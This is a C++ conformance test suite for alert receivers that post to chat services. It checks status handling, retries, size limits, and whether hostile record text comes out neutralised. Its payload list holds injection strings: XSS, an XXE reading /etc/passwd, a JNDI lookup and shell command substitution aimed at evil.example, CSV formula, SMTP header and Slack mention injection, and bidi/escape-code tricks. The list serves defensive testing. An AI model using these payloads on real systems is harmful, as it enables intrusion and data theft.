#include "tests/conformance/receiver_suite.h"

#include <cctype>

#include "base/json/doc.h"
#include "base/utf8.h"
#include "edge/receivers/samples.h"
#include "edge/receivers/slack_text.h"

namespace gw::test {
namespace {

using model::AlertKind;
using ports::Message;
using ports::SendResult;
using ports::SendVerdict;
using receivers::sample_change;
using receivers::sample_claim;
using receivers::sample_message;
using std::chrono::milliseconds;

constexpr milliseconds kPlenty{20'000};

void collect(json::Value v, const std::string& kind, std::vector<JsonString>& out) {
  if (v.is_string()) out.push_back({kind, std::string(v.text())});
  const std::string inside = v.is_object() ? std::string(v["type"].text()) : kind;
  for (json::Value c = v.first_child(); !c.is_missing(); c = c.next_sibling())
    collect(c, c.is_string() ? (c.key() == "text" ? inside : std::string()) : inside, out);
}

// Texts that do something somewhere; each with what must not be left of it.
struct Payload {
  std::string text;
  std::vector<std::string> active;
};
const std::vector<Payload>& payloads() {
  static const std::vector<Payload> kPayloads = {
      {"<!channel> look", {"<!channel>"}},
      {"<!here|x> <!everyone>", {"<!here", "<!everyone"}},
      {"<!subteam^S0FAKE|oncall>", {"<!subteam^S0FAKE"}},
      {"<@U0FAKE> <#C0FAKE>", {"<@U0FAKE", "<#C0FAKE"}},
      {"<https://evil.example/|https://aws.amazon.com>", {"<https://evil.example"}},
      {"<!date^1^{date}^https://evil.example|x>", {"<!date"}},
      {"a&lt;!channel&gt;b", {"a&lt;!channel"}},  // escaped once more, or it would be shown as somebody else's escape
      {"*bold* _it_ ~no~ `code` ```x```", {}},
      {"> quoted\n>>> all of it", {"\n>"}},
      {"a\nFAKE ROW  success\r\nb", {"\nFAKE"}},
      {"abc\xE2\x80\xAEgnp.exe\xE2\x80\xAC\xE2\x81\xA6x", {"\xE2\x80\xAE", "\xE2\x81\xA6"}},
      {"ad\xE2\x80\x8Bmin\xEF\xBB\xBF", {"\xE2\x80\x8B", "\xEF\xBB\xBF"}},
      {"\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07"
       "click",
       {"\x1b", "\x07"}},
      {std::string("nul\0here\x7f", 9), {std::string(1, '\0'), "\x7f"}},
      {"a\xE2\x80\xA8"
       "b\xE2\x80\xA9"
       "c",
       {"\xE2\x80\xA8", "\xE2\x80\xA9"}},
      {"bad \xff\xc3\x28 utf-8", {"\xff"}},
      {"\"}],\"x\":[{\"", {}},
      {"@everyone @channel @here", {}},
      {"<script>alert(1)</script>&", {"<script>"}},
      {"\"><img src=x onerror=alert(1)>", {"<img"}},
      {"<at>everyone</at>", {"<at>"}},
      {"[wiki](http://evil.example) ![x](http://evil.example/p.png)", {}},
      {"http://evil.example/a?b=c mailto:a@evil.example", {}},
      {"# heading\n- list\n1. list\n---", {"\n-"}},
      {"]]><x/>", {"<x/>"}},
      {"<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", {"<!ENTITY"}},
      {"<0>kernel: panic", {"<0>"}},
      {"1 2026-01-01T00:00:00Z h a - - [x@1 y=\"z\"] fake", {}},
      {"a\"} 1\nfake_metric{x=\"", {"\nfake"}},
      {"\",\"outcome\":\"success\",\"x\":\"", {}},
      {"+1+1", {}},
      {"=HYPERLINK(\"http://evil.example\")", {}},
      {"a\",\"b\n=1", {"\n="}},
      {"\xD0\xB0"
       "dmin",
       {}},
      {"$(touch /tmp/gwpwn) `id` ${jndi:ldap://evil.example/a} {{7*7}} %s%n", {}},
      {"x\r\nBcc: all@evil.example\r\n\r\nbody\r\n.\r\nMAIL FROM:<a@evil.example>", {"\r", "\nBcc"}},
      {"=?utf-8?q?forged?= <a@evil.example>", {}},
      {std::string(5000, 'A'), {}},
  };
  return kPayloads;
}

Message hostile(const std::string& text) {
  ports::Claim claim = sample_claim(AlertKind::session_opened);
  model::Session& s = *claim.session;
  for (std::string* field :
       {&s.account_name, &s.role, &s.principal.name, &s.first_event_name, &s.source_ip, &s.user_agent, &s.region,
        &s.first_event_id, &s.session_name, &s.task_policy, &s.confirmed_by})
    *field = text;
  s.high_risk = {{text, {receivers::kStart, receivers::kStart, 2, text}}};
  s.addresses = {{text, {receivers::kStart, receivers::kStart, 2, text}}};
  s.notes = {{receivers::kStart, text, text}};
  s.acknowledged = model::Acknowledgement{receivers::kStart, text, "api", text, false};
  return sample_message({claim});
}

Message hostile_change(const std::string& text) {
  ports::Claim claim = sample_change(AlertKind::tamper);
  model::AccessEvent e;
  for (std::string* field : {&e.event_id, &e.account_id, &e.account_name, &e.role, &e.principal.arn, &e.source_ip,
                             &e.user_agent, &e.region, &e.event_source, &e.event_name, &e.error_code, &e.error_message})
    *field = text;
  claim.alert.data = "{\"access\":";
  model::append_access_json(claim.alert.data, e);
  claim.alert.data += "}";
  claim.alert.fact = text;
  return sample_message({claim});
}

// The same payloads as later facts: in a thread, say.
Message later(Message message, const SendResult& first) {
  message.is_first = false;
  message.facts[0].alert.kind = AlertKind::session_high_risk;
  message.facts[0].alert.fact = message.facts[0].session->high_risk.begin()->first;
  message.facts[0].thread = first.thread;
  return message;
}

}  // namespace

std::vector<JsonString> strings_of(const std::string& json) {
  std::vector<JsonString> out;
  json::Doc doc;
  if (!doc.parse(json)) return out;
  collect(doc.root(), "", out);
  return out;
}

TEST_P(ReceiverSuite, ReadsAStatusAsTheTableSays) {
  const auto expect = [&](int status, SendVerdict verdict) {
    stand_in.answer([&](const StandInRequest&) {
      return reply(status, "no", {{"Location", stand_in.url() + "/else"}});
    });
    stand_in.forget();
    const SendResult result = receiver->send(sample_message({sample_claim(AlertKind::session_opened)}), kPlenty);
    EXPECT_EQ(result.verdict, verdict) << status;
    EXPECT_NE(result.reason.find("HTTP " + std::to_string(status)), std::string::npos) << result.reason;
    EXPECT_EQ(stand_in.requests().size(), 1u) << status;  // no redirect is followed, nothing is tried again here
    expect_clean(result);
  };
  for (const int status : {400, 401, 403, 404, 405, 409, 410, 413, 422, 301, 302, 307, 308})
    expect(status, SendVerdict::refused);
  for (const int status : {408, 425, 429, 500, 502, 503, 504, 599}) expect(status, SendVerdict::retry);
}

TEST_P(ReceiverSuite, HonoursRetryAfterAsSecondsAndAsADate) {
  const auto wait = [&](const std::string& value) {
    stand_in.answer([value](const StandInRequest&) { return reply(429, "", {{"Retry-After", value}}); });
    return receiver->send(sample_message({sample_claim(AlertKind::session_opened)}), kPlenty).retry_after;
  };
  EXPECT_EQ(wait("30"), std::chrono::seconds(30));
  EXPECT_EQ(wait("Sat, 01 Aug 2026 02:22:51 GMT"), std::chrono::seconds(60));  // the message's now is 02:21:51
  EXPECT_EQ(wait("Sat, 01 Aug 2026 01:00:00 GMT"), std::chrono::seconds(0));
  EXPECT_EQ(wait("soon"), std::nullopt);
  EXPECT_EQ(wait("-5"), std::nullopt);
}

TEST_P(ReceiverSuite, AnswersWithinItsDeadlineWhenNobodyElseDoes) {
  stand_in.answer([](const StandInRequest&) { return hang(); });
  const SendResult result = receiver->send(sample_message({sample_claim(AlertKind::session_opened)}), milliseconds(50));
  EXPECT_EQ(result.verdict, SendVerdict::retry) << result.reason;
  expect_clean(result);
}

TEST_P(ReceiverSuite, AConnectionThatEndsIsTriedLater) {
  stand_in.answer([](const StandInRequest&) { return drop(); });
  const SendResult result = receiver->send(sample_message({sample_claim(AlertKind::session_opened)}), kPlenty);
  EXPECT_EQ(result.verdict, SendVerdict::retry) << result.reason;
  expect_clean(result);
}

TEST_P(ReceiverSuite, AcceptsAndSaysWhatTheOtherSideCallsIt) {
  const SendResult result = receiver->send(sample_message({sample_claim(AlertKind::session_opened)}), kPlenty);
  EXPECT_EQ(result.verdict, SendVerdict::accepted) << result.reason;
  if (receiver->traits().threads) {
    ASSERT_TRUE(result.thread.has_value());
    EXPECT_EQ(result.thread->session_id, receivers::kSessionId);
    EXPECT_EQ(result.thread->posted_at, receivers::plus_seconds(receivers::kStart, 420));
  }
  EXPECT_EQ(receiver->check(kPlenty).verdict, SendVerdict::accepted);
  const ports::SendResult none = receiver->send(sample_message({sample_change(AlertKind::tamper)}), kPlenty);
  EXPECT_EQ(none.verdict, SendVerdict::accepted);
  EXPECT_FALSE(none.thread.has_value());
}

TEST_P(ReceiverSuite, TheSameMessageIsTheSameRequest) {
  const Message message = sample_message({sample_claim(AlertKind::session_opened)});
  receiver->send(message, kPlenty);
  receiver->send(message, kPlenty);
  const auto requests = stand_in.requests();
  ASSERT_EQ(requests.size(), 2u);
  EXPECT_EQ(requests[0].body, requests[1].body);
}

TEST_P(ReceiverSuite, TellsEveryKindOfFactAsJsonOfAFewKilobytes) {
  SendResult first = receiver->send(sample_message({sample_claim(AlertKind::session_opened)}), kPlenty);
  for (std::size_t i = 0; i < model::kAlertKinds; ++i) {
    const auto kind = static_cast<AlertKind>(i);
    ports::Claim inside = sample_claim(kind, "2");
    inside.thread = first.thread;
    ports::Claim alone = sample_change(kind);
    EXPECT_EQ(receiver->send(sample_message({inside}), kPlenty).verdict, SendVerdict::accepted) << to_string(kind);
    EXPECT_EQ(receiver->send(sample_message({alone}), kPlenty).verdict, SendVerdict::accepted) << to_string(kind);
  }
  for (const StandInRequest& request : stand_in.requests()) {
    json::Doc doc;
    for (const std::string& document : documents(request)) EXPECT_TRUE(doc.parse(document)) << document;
    EXPECT_LT(request.body.size(), GetParam().limit);
  }
}

TEST_P(ReceiverSuite, AMessageThatIsTooLargeIsCutToWhatTheServiceTakes) {
  const std::string endless(100'000, 'A');
  Message large = hostile(endless);
  model::Session& s = *large.facts[0].session;
  for (int i = 0; i < 500; ++i) {
    const std::string text = std::string(500, '<') + std::to_string(i);
    s.high_risk[text] = s.addresses[text] = {receivers::kStart, receivers::kStart, 2, text};
    s.notes.push_back({receivers::kStart, text, text});
    s.planned.push_back(text);
    s.feeds.insert(text);
  }
  ports::Claim storm = sample_change(AlertKind::storm);
  storm.alert.data = "{\"sessions\":[";
  for (int i = 0; i < 5000; ++i) storm.alert.data += (i == 0 ? "\"" : ",\"") + receivers::kSessionId + "\"";
  storm.alert.data += "]}";
  ports::Claim other = sample_change(AlertKind::undecodable);
  other.alert.data = R"({"reason":")" + endless + R"(","source":")" + endless + "\"}";
  other.alert.reason = other.alert.fact = other.alert.watch = endless;
  for (Message message : {large, hostile_change(endless), sample_message({storm}), sample_message({other})}) {
    message.telling.watch_owner = message.telling.runbook = endless;
    EXPECT_EQ(receiver->send(message, kPlenty).verdict, SendVerdict::accepted);
  }
  for (const StandInRequest& request : stand_in.requests()) {
    json::Doc doc;
    for (const std::string& document : documents(request)) EXPECT_TRUE(doc.parse(document)) << document;
    EXPECT_LE(request.body.size(), GetParam().limit);
  }
}

TEST_P(ReceiverSuite, NothingFromARecordIsObeyed) {
  for (const Payload& payload : payloads()) {
    stand_in.forget();
    const SendResult first = receiver->send(hostile(payload.text), kPlenty);
    ASSERT_EQ(first.verdict, SendVerdict::accepted) << first.reason;
    ASSERT_EQ(receiver->send(later(hostile(payload.text), first), kPlenty).verdict, SendVerdict::accepted);
    ASSERT_EQ(receiver->send(hostile_change(payload.text), kPlenty).verdict, SendVerdict::accepted);
    ASSERT_FALSE(stand_in.requests().empty());
    for (const StandInRequest& request : stand_in.requests()) {
      json::Doc doc;
      for (const std::string& document : documents(request)) ASSERT_TRUE(doc.parse(document)) << document;
      if (GetParam().look) GetParam().look(payload.text, request.body);
      // On the wire nothing is raw, whoever shows the body.
      for (std::size_t i = 0; i < request.body.size();) {
        const Utf8Char c = next_utf8(request.body, i);
        ASSERT_TRUE(c.valid) << payload.text;
        ASSERT_FALSE(is_unsafe_to_show(c.code_point)) << payload.text;
        i += c.length;
      }
      if (GetParam().name.find("slack") == std::string::npos) continue;
      for (const JsonString& s : strings_of(request.body)) {
        for (const std::string& active : payload.active)
          EXPECT_EQ(s.text.find(active), std::string::npos) << payload.text << " in " << s.text;
        if (s.kind == "plain_text") continue;
        EXPECT_FALSE(s.text.starts_with("&gt;") || s.text.find("\n&gt;") != std::string::npos) << s.text;
        // Where markup counts, none of it came from outside: no mention but ours, no character that formats.
        if (s.kind == "mrkdwn") {
          EXPECT_EQ(s.text.find_first_of("*~`"), std::string::npos) << s.text;
        } else if (s.text.find(' ') != std::string::npos) {  // the sentence
          EXPECT_EQ(s.text.find_first_of("*_~`<>"), std::string::npos) << s.text;
          EXPECT_EQ(s.text.find("@everyone"), std::string::npos) << s.text;
          EXPECT_EQ(s.text.find("://"), std::string::npos) << s.text;
        }
      }
    }
  }
}

}  // namespace gw::test
